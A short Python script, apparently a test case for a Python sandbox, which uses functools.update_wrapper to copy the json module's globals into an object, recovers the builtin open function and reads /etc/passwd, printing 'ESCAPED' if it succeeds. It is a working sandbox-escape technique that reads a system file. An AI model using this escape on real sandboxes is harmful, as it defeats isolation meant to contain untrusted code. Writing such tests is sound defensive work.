# tries: update_wrapper merges a library's globals into ours
# class: writer
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import functools
import json


class Sink:
    __globals__ = {}


sink = Sink()
functools.update_wrapper(sink, json.dumps, assigned=[], updated=["__globals__"])
use(dig(sink.__globals__))
